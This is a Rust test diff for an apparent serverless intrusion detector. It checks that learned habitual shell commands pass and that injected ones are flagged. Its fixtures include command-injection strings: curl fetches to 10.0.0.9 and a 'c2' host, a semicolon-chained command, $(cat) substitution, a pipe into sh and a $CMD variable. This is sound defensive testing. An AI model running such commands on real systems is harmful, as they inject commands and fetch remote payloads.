@@ -679,3 +679,62 @@ fn what_one_quiet_invocation_taught_and_an_attack_brings_back_is_forgotten_or_ta
         "{fired:?}"
     );
 }
+
+#[test]
+fn a_habitual_shell_running_only_known_programs_is_its_own_work() {
+    // The shell and its programs are habits (the file watch sees them run every time), but
+    // its command line was read too rarely for the shape to be learned.
+    let mut f = Familiar::default();
+    let seen = ["/usr/bin/dash", "/usr/bin/gzip", "/usr/bin/wc"]
+        .map(|exe| Observation::Program { exe: exe.into() });
+    for _ in 0..4 {
+        f.note_invocation(&seen, &[]);
+    }
+    assert!(f.runs_shells() && f.knows_exe("/usr/bin/gzip"));
+    let own = "/bin/sh -c gzip -6 -c /tmp/in/a.bin | wc -c && gzip -t /tmp/in/a.bin";
+    assert!(f.knows_shell("/usr/bin/dash", own));
+    // Anything else it starts, a nested shell, or a variable as a command: not its work.
+    for injected in [
+        "/bin/sh -c gzip -6 -c /tmp/in/a.bin | wc -c; curl -s http://10.0.0.9/x",
+        "/bin/sh -c gzip -6 $(cat /tmp/x) | wc -c",
+        "/bin/sh -c gzip -6 | sh",
+        "/bin/sh -c $CMD",
+    ] {
+        assert!(!f.knows_shell("/usr/bin/dash", injected), "{injected}");
+    }
+    // A function that runs no shell by habit learns nothing from its programs.
+    let mut g = Familiar::default();
+    g.learn(&[Observation::Program {
+        exe: "/usr/bin/gzip".into(),
+    }]);
+    assert!(!g.knows_shell("/usr/bin/dash", "/bin/sh -c gzip -6"));
+}
+
+#[test]
+fn a_custom_runtime_posting_its_response_is_not_left_running() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let post = "curl -sS -o /dev/null -X POST --data-binary @/tmp/tmp.x \
+                http://127.0.0.1:9001/2018-06-01/runtime/invocation/abc/response";
+    let fired = feed(&mut t, &f, &left_running(30, "/usr/bin/curl", post));
+    assert!(!fired.contains(&Indicator::LeftRunning), "{fired:?}");
+    let fired = feed(
+        &mut t,
+        &f,
+        &left_running(31, "/usr/bin/curl", "curl -s http://c2/x"),
+    );
+    assert!(fired.contains(&Indicator::LeftRunning));
+}
+
+#[test]
+fn a_shell_runtimes_own_subshell_is_no_shell_spawned() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let mut fork = process(13, "/usr/bin/bash", "/bin/bash /var/task/bootstrap");
+    if let Observation::Process { runtime_fork, .. } = &mut fork {
+        *runtime_fork = true;
+    }
+    assert!(feed(&mut t, &f, &fork).is_empty());
+    let started = process(14, "/usr/bin/bash", "bash -c curl -s http://10.0.0.9/x");
+    assert_eq!(feed(&mut t, &f, &started), vec![Indicator::ShellSpawned]);
+}
